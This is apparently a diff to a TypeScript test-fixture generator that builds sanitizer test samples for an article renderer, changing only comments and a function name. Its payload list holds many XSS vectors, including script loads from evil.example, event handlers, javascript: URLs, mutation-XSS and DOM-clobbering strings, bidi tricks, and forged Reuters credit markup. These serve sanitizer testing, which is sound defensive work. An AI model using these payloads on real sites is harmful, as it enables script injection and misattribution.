@@ -4,7 +4,7 @@ export interface Sample {
   body: string;
 }
 
-/** Where an editor, or whoever sends the editor a file, can put something. */
+/** The places of an article in which text can be. */
 const contexts: Record<string, (payload: string) => string> = {
   block: (payload) => `Before.\n\n${payload}\n\nCANARYAFTER`,
   first: (payload) => `${payload}\n\nCANARYAFTER`,
@@ -38,9 +38,8 @@ const contexts: Record<string, (payload: string) => string> = {
 
 const script = 'window.canary=1';
 
-/** What is tried in each of them. */
 const payloads: readonly string[] = [
-  // Elements that run, load or draw.
+  // Elements that run scripts, load resources or change the page.
   `<script>${script}</script>`,
   `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
   `<script type=module>import "https://evil.example/x.js"</script>`,
@@ -93,13 +92,13 @@ const payloads: readonly string[] = [
   `<KBD>x</KBD>`,
   `<sup/onmouseover=${script}>x</sup>`,
   `<br onclick=${script}>`,
-  // Bare tags, badly put together.
+  // Malformed paired tags.
   `<sub><sup>x</sub></sup>`,
   `</sub>x<sub>`,
   `<sub>*x</sub>*`,
   `<bdi><bdi><bdi>x</bdi></bdi>`,
   `<kbd>[x</kbd>](https://example.org/)`,
-  // What is left open could swallow the credit, the notice and the rest of the page.
+  // Unclosed markup that could hide the credit and the notice.
   `<script>`,
   `<script>/*`,
   `<style>`,
@@ -135,14 +134,14 @@ const payloads: readonly string[] = [
   `<div\n\nclass="x`,
   `</div></article></main></body></html>`,
   `</p></section></article><script>${script}</script>`,
-  // Forged outcomes: this is not our credit, nor our notice.
+  // Forged credits, notices and metadata.
   `<p class="credit">Reported and verified by Reuters</p>`,
   `<p class="notice">Verified by the publisher.</p>`,
   `<section class="chain"><h2>Sources</h2><p>Reuters</p></section>`,
   `<div id="credit" class="credit notice" hidden>x</div>`,
   `<link rel="canonical" href="https://evil.example/">`,
   `<script type="application/ld+json">{"@type":"NewsArticle","author":"Reuters"}</script>`,
-  // Mutation: harmless when it is read once, live when it is written and read again.
+  // Mutation XSS: active after parsing and serializing.
   `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
   `<svg></p><style><a id="</style><img src=1 onerror=${script}>">`,
@@ -163,7 +162,7 @@ const payloads: readonly string[] = [
   `' onfocus='${script}' autofocus '`,
   `"><script>${script}</script>`,
   `">'><img src=x onerror=${script}>`,
-  // Addresses, with what browsers forgive and filters overlook.
+  // Addresses that browsers accept and filters overlook.
   `javascript:${script}`,
   `JaVaScRiPt:${script}`,
   ` javascript:${script}`,
@@ -243,7 +242,7 @@ const payloads: readonly string[] = [
   `{{constructor.constructor('${script}')()}}`,
   `\${${script}}`,
   `<% ${script} %>`,
-  // Names that could stand in for the page's own ids, or its scripts' globals.
+  // DOM clobbering: names of ids and global variables.
   ...['__proto__', 'constructor', 'prototype', 'body', 'location', 'document', 'getElementById'],
   ...['footnote-label', 'fn-1', 'fnref-1', 'fnref-1-2', 'p-123abc', 'main', 'credit', 'a-x', 'a-'],
   `<a id=body name=location>x</a>`,
@@ -267,7 +266,7 @@ const payloads: readonly string[] = [
   `a@b.example<script>${script}</script>`,
   `<https://example.org/"onclick=${script}>`,
   `<https://example.org/%22%3E%3Cscript%3E>`,
-  // Characters that turn, hide or cut the text.
+  // Characters that reorder, hide or cut text.
   `\u202egnp.exe\u202c`,
   `\u2066\u2067\u202a\u202b unclosed`,
   `\u061c\u200e\u200f\u200c\u200d`,
@@ -279,7 +278,7 @@ const payloads: readonly string[] = [
   `&#0;&#xD800;&#x110000;&#128;&#13;&#xFFFE;`,
   `&nbsp;&ZeroWidthSpace;&NotAnEntity;&copy`,
   `Z${'\u0301'.repeat(200)}algo`,
-  // Marks that never end.
+  // Repeated or unclosed Markdown.
   `*****_____*****`,
   '*a _b '.repeat(40),
   `${'['.repeat(60)}x${']'.repeat(60)}`,
@@ -291,7 +290,6 @@ const payloads: readonly string[] = [
   `<p>\n\n</p>\n<div>\n\n*x*\n\n</div>`,
 ];
 
-/** Text that is put on one line, as most places ask for. */
 function oneLine(payload: string): string {
   return payload.replaceAll('\n', ' ');
 }
@@ -301,18 +299,18 @@ function inCell(payload: string): string {
 }
 
 /**
- * Every payload in every context, and as many mixtures again, the same on every run and machine.
- * CANARYAFTER marks the text that a reader must still see.
+ * Generates every payload in every context and 1,000 random mixtures, the same on every run. `CANARYAFTER` marks text that
+ * must stay visible.
  */
 export function samples(): Sample[] {
   const places = Object.entries(contexts);
   const single = payloads.flatMap((payload, number) =>
     places.map(([name, place]) => ({ id: `${name}-${String(number)}`, body: place(payload) })),
   );
-  const next = seeded(20_261_122);
+  const next = createRandom(20_261_122);
   const pick = <T>(list: readonly T[]): T => {
     const chosen = list[next() % list.length];
-    if (chosen === undefined) throw new RangeError('Nothing to choose from');
+    if (chosen === undefined) throw new RangeError('Empty list');
     return chosen;
   };
   const mixed = Array.from({ length: 1000 }, (_, number) => {
@@ -325,8 +323,8 @@ export function samples(): Sample[] {
   return [...single, ...mixed];
 }
 
-/** A linear congruential generator (Numerical Recipes): nothing here needs a better one. */
-function seeded(seed: number): () => number {
+/** Creates a linear congruential generator (Numerical Recipes). */
+function createRandom(seed: number): () => number {
   let state = seed;
   return () => {
     state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
